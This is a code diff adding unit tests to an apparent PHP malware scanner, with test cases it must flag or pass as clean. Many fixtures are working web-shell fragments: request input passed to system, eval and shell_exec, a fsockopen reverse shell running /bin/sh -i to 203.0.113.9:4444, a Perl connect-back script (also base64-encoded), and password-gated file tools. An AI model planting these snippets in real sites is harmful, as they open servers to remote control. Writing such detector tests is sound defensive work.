@@ -1130,6 +1130,131 @@ test_callbacks_more(void)
 	T_CLEAN("x.php", "<?php extract($_POST); $cb = 'strtoupper'; echo $cb($name);");
 }
 
+/* behaviours of a page as a whole: what it guards, shows, rewrites, wires */
+static void
+test_gates_and_reads(void)
+{
+	/* a password gate in front of a tool: a hash of input held against a
+	 * constant the page carries (literal, or a variable given one), or a
+	 * password field compared with a literal */
+	T_HAS("x.php", "<?php\n$auth = 'e10adc3949ba59abbe56e057f20f883e';\n"
+		       "if (isset($_COOKIE['k']) && md5($_COOKIE['k']) === $auth) {\n"
+		       "  foreach (scandir($_GET['d']) as $f) echo $f, '<br>';\n}\n",
+	      PHPSCAN_PASSWORD_GATE, PHPSCAN_WEAK, 3);
+	T_HAS("x.php", "<?php\nif ($_POST['pass'] != 'letmein') die('no');\n"
+		       "move_uploaded_file($_FILES['f']['tmp_name'], 'up/x.dat');\n",
+	      PHPSCAN_PASSWORD_GATE, PHPSCAN_WEAK, 2);
+	T_HAS("x.php", "<?php\nif (password_verify($_POST['p'], '$2y$10$abcdefghijklmnopqrstuuabcdefghij')) {\n"
+		       "  $c = 'uptime'; echo `$c`; exec('id', $o); print_r($o);\n}\n",
+	      PHPSCAN_PASSWORD_GATE, PHPSCAN_WEAK, 2);
+	/* a login checked against the database, a form field compared: no gate */
+	T_CLEAN("x.php", "<?php\nif (md5($_POST['password']) == $row['hash']) { $_SESSION['u'] = 1; }\n"
+			 "foreach (scandir('themes') as $t) echo $t;\n");
+	T_CLEAN("x.php", "<?php\nif ($_POST['action'] == 'list') { foreach (scandir('docs') as $d) echo $d; }\n");
+	/* the page rewrites itself, dates itself back, write-protects itself */
+	T_HAS("x.php", "<?php\n$c = file_get_contents(__FILE__);\nfile_put_contents(__FILE__, str_replace('a', 'b', $c));\n",
+	      PHPSCAN_SELF_MODIFY, PHPSCAN_WEAK, 3);
+	T_HAS("x.php", "<?php\ntouch(__FILE__, filemtime('index.php'));\n", PHPSCAN_SELF_MODIFY, PHPSCAN_WEAK, 2);
+	T_HAS("x.php", "<?php\n@chmod(__FILE__, 0444);\n", PHPSCAN_SELF_MODIFY, PHPSCAN_WEAK, 2);
+	T_HAS("x.php", "<?php\n$h = fopen($_SERVER['SCRIPT_FILENAME'], 'w');\n", PHPSCAN_SELF_MODIFY, PHPSCAN_WEAK, 2);
+	T_CLEAN("x.php", "<?php\n$me = file_get_contents(__FILE__);\n@chmod(__FILE__, 0644);\ntouch(__FILE__);\n"
+			 "$h = fopen(__FILE__, 'r');\n");
+	/* a file the request names, whole, read and shown */
+	T_HAS("x.php", "<?php\nreadfile($_GET['f']);\n", PHPSCAN_FILE_DISCLOSURE, PHPSCAN_WEAK, 2);
+	T_HAS("x.php", "<?php\n$f = $_REQUEST['file'];\necho htmlspecialchars(file_get_contents(trim($f)));\n",
+	      PHPSCAN_FILE_DISCLOSURE, PHPSCAN_WEAK, 3);
+	T_HAS("x.php", "<?php\nclass V {}\nshow_source($_GET['s']);\n", PHPSCAN_FILE_DISCLOSURE, PHPSCAN_WEAK, 3);
+	T_CLEAN("x.php", "<?php\nreadfile('files/' . basename($_GET['f']));\n"
+			 "echo file_get_contents($dir . '/' . $_GET['page'] . '.html');\n");
+	T_CLEAN("x.php", "<?php\nrequire 'lib/app.php';\nreadfile($_GET['f']);\n");
+	/* fopen to write is an editor (write-of-input), no disclosure */
+	T_HAS("x.php", "<?php\n$f = $_POST['p'];\nfwrite(fopen($f, 'w'), $_POST['b']);\n", PHPSCAN_WRITE_OF_INPUT,
+	      PHPSCAN_WEAK, 3);
+	T_CHECK(find(PHPSCAN_FILE_DISCLOSURE) == NULL, "fopen($f, 'w') is no file disclosure");
+	T_HAS("x.php", "<?php\n$h = fopen($_GET['p'], 'rb');\nfpassthru($h);\n", PHPSCAN_FILE_DISCLOSURE, PHPSCAN_WEAK, 2);
+	/* code included from a file named as an image or an icon */
+	T_HAS("x.php", "<?php\n@include \"/var/www/img/favicon_1a2b.ico\";\n", PHPSCAN_PHP_IN_NON_PHP, PHPSCAN_WEAK, 2);
+	T_CLEAN("x.php", "<?php\nrequire_once dirname(__FILE__) . '/lib/' . $name . '.php';\n"
+			 "echo '<img src=\"logo.png\">';\ninclude 'header.html';\n");
+	T_HAS("x.php", "<?php\ncopy($_FILES['f']['tmp_name'], 'x.php');\n", PHPSCAN_WRITE_OF_INPUT, PHPSCAN_WEAK, 2);
+	/* the request's data written into a PHP file by a page standing alone */
+	T_HAS("x.php", "<?php\nfile_put_contents('cache.php', $_POST['c']);\n", PHPSCAN_WRITE_OF_INPUT, PHPSCAN_WEAK, 2);
+	T_HAS("x.php", "<?php\n$fp = fopen('x.php', 'w');\nfwrite($fp, $_POST['c']);\n", PHPSCAN_WRITE_OF_INPUT,
+	      PHPSCAN_WEAK, 3);
+	T_CLEAN("x.php", "<?php\nrequire 'lib/install.php';\nfile_put_contents('config.php', $_POST['c']);\n"
+			 "file_put_contents('log.txt', $_POST['c']);\n");
+}
+
+static void
+test_objects_sockets_methods(void)
+{
+	/* properties of an object the request's data was decoded into */
+	T_HAS("x.php", "<?php\n$o = json_decode($_POST['j']);\neval($o->code);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH,
+	      3);
+	T_HAS("x.php", "<?php\n$d = unserialize(base64_decode($_COOKIE['d']));\nsystem($d->cmd);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_CLEAN("x.php", "<?php\n$o = json_decode($_POST['j']);\necho htmlspecialchars(strtolower($o->name));\n"
+			 "$u = new User($_POST['id']);\neval($u->code);\n");
+	/* a variable function given one literal: what that function is */
+	T_CLEAN("x.php", "<?php\n$f = 'strtolower';\necho $f($_GET['x']);\n");
+	T_HAS("x.php", "<?php\n$f = 'system';\n$f($_GET['x']);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_HAS("x.php", "<?php\n$f = 'error_log';\n$f($_POST['a'], 3, $_POST['b']);\n", PHPSCAN_EXEC_OF_INPUT,
+	      PHPSCAN_HIGH, 3);
+	/* what a socket the page opened sends is the other end's */
+	T_HAS("x.php", "<?php\n$s = fsockopen('203.0.113.9', 4444);\n"
+		       "while (!feof($s)) { $c = fgets($s, 1024); fwrite($s, shell_exec($c)); }\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_HAS("x.php", "<?php\n$s = fsockopen('203.0.113.9', 4444);\n"
+		       "proc_open('/bin/sh -i', array(0 => $s, 1 => $s, 2 => $s), $p);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_CLEAN("x.php", "<?php\n$fp = fsockopen('smtp.example.org', 25);\n$g = fgets($fp, 512);\n"
+			 "if (strpos($g, '220') !== 0) die(htmlspecialchars($g));\n");
+	/* methods and constructors of the file's own classes that run their parameter */
+	T_HAS("x.php", "<?php\nclass R { public function run($c) { return shell_exec($c); } }\n$r = new R();\n"
+		       "echo $r->run($_POST['c']);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 4);
+	T_HAS("x.php", "<?php\nclass A { function __construct($c) { eval($c); } }\nnew A($_GET['c']);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_HAS("x.php", "<?php\nclass B { static function go($c) { system($c); } }\nB::go($_REQUEST['x']);\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_CLEAN("x.php", "<?php\nclass R { function run($c) { return strtoupper($c); } function sh($c) { return system($c); } }\n"
+			 "$r = new R();\necho $r->run($_POST['c']);\n$r->sh('uptime');\n");
+	/* a runner's name given to $GLOBALS, called from there */
+	T_HAS("x.php", "<?php\n$GLOBALS['f'] = 'sys' . 'tem';\n$GLOBALS['f']($_GET['c']);\n", PHPSCAN_EXEC_OF_INPUT,
+	      PHPSCAN_HIGH, 3);
+	/* list() = input */
+	T_HAS("x.php", "<?php\nlist($a, $b) = array_values($_POST);\n$a($b);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_CLEAN("x.php", "<?php\nlist($app, $x) = explode('/', $_POST['h']);\n"
+			 "$r = parse_ini_file('apps/' . $app . '/embed.ini', true);\necho call_user_func($r['f'], 1);\n");
+	T_HAS("x.php", "<?php\n[$f, $a] = [$_POST['f'], $_POST['a']];\n$f($a);\n", PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	/* an assignment inside a condition, a function returning the request's input */
+	T_HAS("x.php", "<?php\nif (isset($_GET['c']) && ($cmd = $_GET['c'])) { echo shell_exec($cmd); }\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 2);
+	T_HAS("x.php", "<?php\nfunction g($k) { return isset($_REQUEST[$k]) ? $_REQUEST[$k] : ''; }\nsystem(g('c'));\n",
+	      PHPSCAN_EXEC_OF_INPUT, PHPSCAN_HIGH, 3);
+	T_CLEAN("x.php", "<?php\nif ($n = intval($_GET['n'])) { echo eval('return ' . $n . ' * 2;'); }\n"
+			 "function g($k) { return isset($_REQUEST[$k]) ? 1 : 0; }\nsystem(g('c') ? 'uptime' : 'date');\n");
+	/* an own decoder's output kept in a variable, then eval'd, in a page of no application */
+	T_HAS("x.php", "<?php\nfunction d($s) { $o = ''; for ($i = 0; $i < strlen($s); $i++) $o .= chr(ord($s[$i]) - 1); return $o; }\n"
+		       "$c = d('fdip!2<');\neval($c);\n",
+	      PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_WEAK, 4);
+	T_CLEAN("x.php", "<?php\nrequire 'lib/tpl.php';\n$c = compile_template('page');\neval('?>' . $c);\neval($c);\n");
+	/* which runners did the host leave? then one is run */
+	T_HAS("x.php", "<?php\n$df = ini_get('disable_functions');\n"
+		       "if (strpos($df, 'exec') === false) { exec($c, $o); echo join(\"\\n\", $o); }\n"
+		       "else echo shell_exec($c);\n",
+	      PHPSCAN_COMMAND_PAGE, PHPSCAN_WEAK, 3);
+	T_CLEAN("x.php", "<?php\nif (function_exists('exec')) { exec('convert -version', $o); }\n");
+	/* a connect-back script carried in a literal, as text or in base64 */
+	T_HAS("x.php", "<?php\n$bc = \"#!/usr/bin/perl\\nuse Socket;\\nsocket(S, PF_INET, SOCK_STREAM, 6);\\n"
+		       "connect(S, $a);\\nopen(STDIN, '>&S');\\nexec('/bin/sh -i');\";\n",
+	      PHPSCAN_CONNECT_BACK, PHPSCAN_WEAK, 2);
+	T_HAS("x.php", "<?php\n$bc = 'IyEvdXNyL2Jpbi9wZXJsCnVzZSBTb2NrZXQ7CnNvY2tldChTLCBQRl9JTkVULCBTT0NLX1NUUkVBTSwgNik7"
+		       "CmV4ZWMoJy9iaW4vc2ggLWknKTsK';\n",
+	      PHPSCAN_CONNECT_BACK, PHPSCAN_WEAK, 2);
+	T_CLEAN("x.php", "<?php\n$help = 'The socket could not be opened: check the server address and port, then retry.';\n");
+}
+
 int
 main(void)
 {
@@ -1139,6 +1264,8 @@ main(void)
 	T_RUN(test_obfuscation);
 	T_RUN(test_decoded);
 	T_RUN(test_callbacks_more);
+	T_RUN(test_gates_and_reads);
+	T_RUN(test_objects_sockets_methods);
 	T_RUN(test_tools);
 	T_RUN(test_placement);
 	T_RUN(test_config_files);
